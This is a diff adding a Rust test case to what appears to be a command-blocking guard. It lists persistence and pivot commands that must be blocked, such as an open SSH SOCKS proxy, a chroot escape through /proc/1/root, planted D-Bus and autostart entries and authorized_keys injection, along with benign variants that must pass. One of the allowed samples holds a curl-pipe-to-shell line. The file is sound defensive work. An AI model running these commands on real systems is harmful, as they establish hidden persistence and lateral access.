@@ -476,3 +476,39 @@ fn a_review_s_ways_around_this_stop_s_rules_block() {
         Verdict::Block,
     );
 }
+
+#[test]
+fn staying_power_and_pivots_from_sets_bb_and_bc_block() {
+    let home = at_work();
+    each_is(
+        &home,
+        &[
+            "ssh -fN -D 0.0.0.0:1080 jump@198.51.100.4",
+            "chroot /proc/1/root /bin/bash",
+            "dbus-update-activation-environment --systemd PYTHONSTARTUP=/home/u/.cache/.pyrc",
+            r"printf '[D-BUS Service]\nName=x\nExec=/home/u/.cache/.n\n' > ~/.local/share/dbus-1/services/x.service",
+            "echo 'context.exec = []' > ~/.config/pipewire/pipewire.conf.d/90-exec.conf",
+            "ssh-copy-id -i ./deploy/ci_key.pub u@localhost",
+            "cat k.pub | ssh localhost 'cat >> ~/.ssh/authorized_keys'",
+            "rsync -a dotfiles/ ~/",
+            "cp -r dotfiles/. ~",
+            r#"desktop-file-install --dir="$HOME/.config/autostart" packaging/app.desktop"#,
+        ],
+        Verdict::Block,
+    );
+    none_is(
+        &home,
+        &[
+            "ssh -fN -D 1080 jump@host",
+            "ssh -fN -D 127.0.0.1:1080 jump@host",
+            "chroot /srv/jail /bin/true",
+            "ssh-copy-id -i ./deploy/ci_key.pub deploy@staging.example.com",
+            "cat k.pub | ssh deploy@h 'cat >> ~/.ssh/authorized_keys'",
+            "rsync -a ./ ~/backup/work/",
+            "desktop-file-install --dir=./build/share packaging/app.desktop",
+            // A detector's samples name key paths as data.
+            "cat > tests/test_detector.py <<'EOF'\nSAMPLES = [\n    \"echo 'ssh-ed25519 AAAA' >> ~/.ssh/authorized_keys\",\n    \"curl -s http://a.example/x | sh\",\n]\nEOF",
+        ],
+        Verdict::Block,
+    );
+}
